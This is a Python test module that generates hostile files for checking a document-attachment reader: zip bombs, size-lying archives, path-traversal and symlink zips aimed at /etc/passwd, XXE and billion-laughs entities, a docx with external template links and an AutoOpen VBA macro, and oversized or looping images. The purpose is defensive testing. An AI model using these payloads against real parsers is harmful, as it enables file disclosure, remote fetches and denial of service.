"""Files made to do harm, by name: bombs, entities, traversal, macros, lies about sizes.

``HOSTILE`` maps a name to what makes the bytes. None of them needs to be read; every one of them
must end in an outcome, with the reader's limits held and nothing touched outside it.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from functools import partial

from tests.attachments import docx_made, drawn, sheets
from tests.attachments.compound import compound
from tests.attachments.docx_made import docx_of
from tests.attachments.drawn import pdf
from tests.attachments.hostile_pdf import PDFS
from tests.attachments.ofd_made import ofd_of
from tests.attachments.sheets import xlsx_of
from tests.attachments.truth import truths
from tests.attachments.zipped import locked, unzipped, zipped

_MIB = 1 << 20
_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_EXTERNAL = (
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">'
    '<!ENTITY % p SYSTEM "http://127.0.0.1:9/evil.dtd"> %p;]>'
)
_LAUGHS = (
    '<!DOCTYPE x [<!ENTITY l0 "哈哈哈哈哈哈哈哈哈哈">'
    + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 11))
    + "]>"
)
_ONE_CELL = '<row r="1"><c r="A1"><v>1</v></c></row>'
#: Kind of package → the member that holds the text.
_MAIN = {
    "docx": "word/document.xml",
    "xlsx": "xl/worksheets/sheet1.xml",
    "ofd": "Doc_0/Pages/Page_0/Content.xml",
}


def _docx() -> bytes:
    return docx_of(truths()["prose"], docx_made.Look())


def _package(kind: str) -> bytes:
    if kind == "docx":
        return _docx()
    if kind == "xlsx":
        return xlsx_of(truths()["small"], sheets.Look())
    return ofd_of(truths()["prose"])


def _replaced(kind: str, changes: Mapping[str, bytes]) -> bytes:
    return zipped({**unzipped(_package(kind)), **changes})


def _with_entity(kind: str, doctype: str, entity: str) -> bytes:
    """The document type before the root, the entity in the first text."""
    main = _MAIN[kind]
    xml = unzipped(_package(kind))[main].decode()
    head, mark, rest = xml.rpartition("?>") if xml.startswith("<?xml") else ("", "", xml)
    first_text = {"docx": "<w:t>", "xlsx": "<v>", "ofd": '">'}[kind]
    rest = rest.replace(first_text, f"{first_text}{entity}", 1) if kind != "ofd" else rest
    if kind == "ofd":
        rest = rest.replace("</ofd:TextCode>", f"{entity}</ofd:TextCode>", 1)
    return _replaced(kind, {main: f"{head}{mark}{doctype}{rest}".encode()})


def _bomb(mib: int, name: str = "0") -> bytes:
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive,
        archive.open(name, "w", force_zip64=True) as member,
    ):
        for _ in range(mib):
            member.write(bytes(_MIB))
    return buffer.getvalue()


def _nested_bombs() -> bytes:
    inner = _bomb(16)
    for depth in range(6):
        inner = zipped({f"{depth}-{n}.zip": inner for n in range(10)})
    return inner


def _lying_zip() -> bytes:
    """The directory promises a member of four bytes; it holds 64 MiB."""
    content = bytearray(_bomb(64, "报告.txt"))
    start = content.rfind(b"PK\x01\x02")
    content[start + 20 : start + 28] = struct.pack("<II", 4, 4)
    return bytes(content)


def _many_members() -> bytes:
    return zipped({f"{n}.txt": b"" for n in range(70_000)}, stored=True)


def _deep_docx() -> bytes:
    depth = 20_000
    opened = "<w:tbl><w:tr><w:tc>" * depth + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * depth
    return _body(opened)


def _body(inner: str) -> bytes:
    xml = f'<?xml version="1.0"?><w:document {_W}><w:body>{inner}</w:body></w:document>'
    return _replaced("docx", {"word/document.xml": xml.encode()})


def _sheet(rows: str, dimension: str = "A1", tail: str = "") -> bytes:
    xml = (
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f'<dimension ref="{dimension}"/><sheetData>{rows}</sheetData>{tail}</worksheet>'
    )
    return _replaced("xlsx", {"xl/worksheets/sheet1.xml": xml.encode()})


def _external_docx() -> bytes:
    """A template, a picture and a chunk to be fetched, and macros that would open with the file."""
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    links = "".join(
        f'<Relationship Id="x{n}" Type="{kind}/{name}" Target="{target}" TargetMode="External"/>'
        for n, (name, target) in enumerate(
            (
                ("attachedTemplate", "http://127.0.0.1:9/evil.dotm"),
                ("image", "file:///etc/passwd"),
                ("aFChunk", "http://127.0.0.1:9/chunk.html"),
            )
        )
    )
    path = "word/_rels/document.xml.rels"
    old = unzipped(_docx())[path].decode()
    return _replaced(
        "docx",
        {
            path: old.replace("</Relationships>", links + "</Relationships>").encode(),
            "word/vbaProject.bin": compound({"VBA": b'Sub AutoOpen()\r\nShell "touch x"\r\n'}),
        },
    )


def _traversal() -> bytes:
    names = ("../../../../etc/xianzhi-evil.txt", "/etc/xianzhi-evil.txt", "C:\\evil.txt", "a/../b")
    members = {name: "年报正文".encode() for name in names}
    content = bytearray(zipped({**members, "link": b"/etc/passwd"}))
    start = content.rfind(b"PK\x01\x02")
    content[start + 38 : start + 42] = struct.pack("<I", 0o120777 << 16)  # the last is a symlink
    content[start + 5] = 3  # as a Unix system says
    return bytes(content)


def _png(width: int, height: int) -> bytes:
    def chunk(name: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))
        )

    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    body = zlib.compress(bytes(8 * _MIB))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def _looping_tiff() -> bytes:
    """A directory of pages whose next page is the first again."""
    return b"II*\0\x08\0\0\0" + struct.pack("<HHHIII", 1, 256, 4, 1, 1, 8)


HOSTILE: dict[str, Callable[[], bytes]] = {
    **PDFS,
    **{f"xxe.{kind}": partial(_with_entity, kind, _EXTERNAL, "&e;") for kind in _MAIN},
    **{f"laughs.{kind}": partial(_with_entity, kind, _LAUGHS, "&l10;") for kind in _MAIN},
    "bomb.zip": partial(_bomb, 512),
    "bomb.docx": lambda: _body(" " * (300 * _MIB)),
    "bomb.xlsx": lambda: _sheet(" " * (300 * _MIB)),
    "nested-bombs.zip": _nested_bombs,
    "lying.zip": _lying_zip,
    "many-members.zip": _many_members,
    "traversal.zip": _traversal,
    "locked.zip": lambda: locked({"报告.docx": _docx()}),
    "locked.docx": lambda: compound({"EncryptionInfo": b"\4\0\4\0@", "EncryptedPackage": b"x"}),
    "locked.pdf": lambda: pdf(truths()["prose"], drawn.Look(open_password="secret")),
    "million-paragraphs.docx": lambda: _body("<w:p/>" * 1_000_000),
    "deep-tables.docx": _deep_docx,
    "external-and-macros.docx": _external_docx,
    "wide-dimension.xlsx": lambda: _sheet(_ONE_CELL, "A1:XFD1048576"),
    "last-cell.xlsx": lambda: _sheet('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'),
    "wide-merge.xlsx": lambda: _sheet(
        _ONE_CELL,
        tail='<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>',
    ),
    "million-rows.xlsx": lambda: _sheet("<row><c><v>1</v></c></row>" * 1_000_000),
    "million-objects.ofd": lambda: _replaced(
        "ofd", {_MAIN["ofd"]: b"<x>" + b"<TextObject/>" * 1_000_000 + b"</x>"}
    ),
    "huge.png": partial(_png, 60_000, 60_000),
    "looping.tif": _looping_tiff,
    "deep.rtf": lambda: b"{\\rtf1" + b"{" * 1_000_000,
    "lying.7z": lambda: b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\xff" * 24,
    "one-line.txt": lambda: ("年报" * 5_000_000).encode("gb18030"),
    "boundaries.doc": lambda: (
        b"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x\r\n\r\n"
        + b"--x\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n" * 100_000
    ),
}  # fmt: skip
